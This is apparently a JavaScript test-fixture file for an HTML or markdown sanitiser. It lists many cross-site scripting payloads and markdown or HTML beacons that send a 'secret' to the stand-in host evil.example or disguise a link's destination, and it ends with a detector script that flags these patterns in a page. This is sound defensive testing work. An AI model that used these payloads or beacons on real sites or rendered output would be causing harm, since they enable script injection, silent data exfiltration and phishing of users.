const run = 'window.owned=1'
const evil = 'https://evil.example/b?d=secret'

/** Texts that try to run a script wherever a text is put into a page. */
export const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src=\`x\` onerror=${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<image src=x onerror=${run}>`,
  `<img src="javascript:${run}">`,
  `<img srcset="x 1x" onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe onload=${run}></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<video src=x onerror=${run}></video>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div onpointerenter=${run}>hover</div>`,
  `<div style="animation-name:x" onanimationstart=${run}>x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<a href=" &#14; javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<style>*{background:url("javascript:${run}")}</style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:/a/-${run}///////">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `javascript:${run}`,
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `__proto__`,
]

/** Markdown that tries to send something to another host without a click, or to hide where a click leads. */
export const beacons = [
  `![x](${evil})`,
  `![x](<${evil}>)`,
  `![x](${evil} "title")`,
  `![x][r]\n\n[r]: ${evil}`,
  `![r][]\n\n[r]: ${evil}`,
  `![r]\n\n[r]: ${evil}`,
  `![r]\n\n[r]:\n  ${evil}\n  "title"`,
  `[![x](${evil})](${evil})`,
  `![![x](${evil})](${evil})`,
  `# ![x](${evil})`,
  `> ![x](${evil})`,
  `- [ ] ![x](${evil})`,
  `| a |\n|-|\n| ![x](${evil}) |`,
  `a[^1]\n\n[^1]: ![x](${evil})`,
  `**![x](${evil})**`,
  `~~![x](${evil})~~`,
  '![x](//evil.example/b)',
  '![x](\\\\evil.example/b)',
  '![x](/\\evil.example/b)',
  '![x](https:evil.example/b)',
  '![x](https:/evil.example/b)',
  '![x](HTTPS://EVIL.EXAMPLE/b)',
  '![x](https://evil.example:443/b)',
  '![x](https://me:secret@evil.example/b)',
  '![x](https://127.0.0.1.evil.example/b)',
  '![x](https&#58;//evil.example/b)',
  '![x](&#104;ttps://evil.example/b)',
  '![x](/api/../../../..//evil.example/b)',
  '![x](/api/%2e%2e//evil.example/b)',
  '![x](ws://evil.example/b)',
  '![x](ftp://evil.example/b)',
  '![x](data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/b"/></svg>)',
  '![x](data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvYiIvPjwvc3ZnPg==)',
  '![x](blob:https://evil.example/b)',
  `<img src="${evil}">`,
  `<img srcset="${evil} 2x">`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<video src="${evil}" poster="${evil}" autoplay></video>`,
  `<audio src="${evil}" autoplay></audio>`,
  `<track src="${evil}">`,
  `<input type=image src="${evil}">`,
  `<div style="background-image:url(${evil})">x</div>`,
  `<style>@import url(${evil}); @font-face{font-family:x;src:url(${evil})} *{font-family:x}</style>`,
  `<link rel=prefetch href="${evil}"><link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//evil.example">`,
  `<link rel=icon href="${evil}">`,
  `<link rel=stylesheet href="${evil}">`,
  `<iframe src="${evil}"></iframe>`,
  `<object data="${evil}"></object><embed src="${evil}">`,
  `<svg><image href="${evil}"/><use href="${evil}#x"/></svg>`,
  `<table background="${evil}"><tr><td background="${evil}">x</table>`,
  `<a ping="${evil}" href="https://example.com">x</a>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<form action="${evil}"><input name=q value=secret autofocus></form>`,
  `<script>fetch("${evil}")</script>`,
  `$$\\includegraphics{${evil}}$$`,
  `$$\\href{${evil}}{x}$$`,
  `$$\\htmlStyle{background:url(${evil})}{x}$$`,
  `$\\url{${evil}}$`,
  `\`\`\`mermaid\ngraph LR; A-->B; click A "${evil}"; style A fill:url(${evil})\n\`\`\``,
  `\`\`\`svg\n<svg><image href="${evil}"/></svg>\n\`\`\``,
  `\`\`\`html\n<img src="${evil}">\n\`\`\``,
  `[\u200b](${evil})`,
  `[ ](${evil})`,
  `[\u2800](${evil})`,
  `[\u3164](${evil})`,
  `[https://bank.example](${evil})`,
  `[bank.example](https://bank.example.evil.example/)`,
  `[раураl.com](https://xn--l-7sba6dbr.com/)`,
  `[moc.elpmaxe\u202e](${evil})`,
  `<${evil}>`,
  evil,
]

/** To be evaluated in a page: what stands in it that could run, load from elsewhere, or lead where nobody sees. */
export const dangersOfPage = String.raw`(() => {
  const found = []
  if ('owned' in window) found.push('a script ran')
  for (const element of document.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase()
    const said = element.outerHTML.slice(0, 200)
    if (/^(iframe|object|embed|base|applet|frame|meta|script|style|link)$/.test(tag) && document.body.contains(element)) found.push(said)
    for (const { name, value } of element.attributes) {
      if (/^on/.test(name)) found.push(said)
      if (/^(src|srcset|poster|data|background|action|formaction|ping)$/.test(name)) {
        for (const address of name === 'srcset' ? value.split(',') : [value]) {
          const url = URL.parse(address.trim(), location.href)
          if (url && url.origin !== location.origin && !/^data:image\/(png|jpeg|gif|webp)[;,]/.test(address)) found.push(said)
        }
      }
      if (name === 'style' && /url\(/i.test(value)) found.push(said)
    }
    if (tag === 'link' && URL.parse(element.href)?.origin !== location.origin) found.push(said)
    if (tag !== 'a' || !element.hasAttribute('href')) continue
    if (!/^(https?|mailto):$/.test(element.protocol)) found.push(said)
    if (element.origin === location.origin || element.protocol === 'mailto:') continue
    const { relList } = element
    if (element.target !== '_blank' || !relList.contains('noopener') || !relList.contains('noreferrer')) found.push(said)
    if (!/[\p{L}\p{N}]/u.test(element.textContent.replace(/[\u115F\u1160\u3164\uFFA0]/g, ''))) found.push('nothing to see of ' + said)
    const named = element.textContent.match(/(?:[a-z0-9-]+\.)+[a-z]{2,}/i)
    if (named && !element.textContent.includes(element.host)) found.push('another host in ' + said)
  }
  return found
})()`
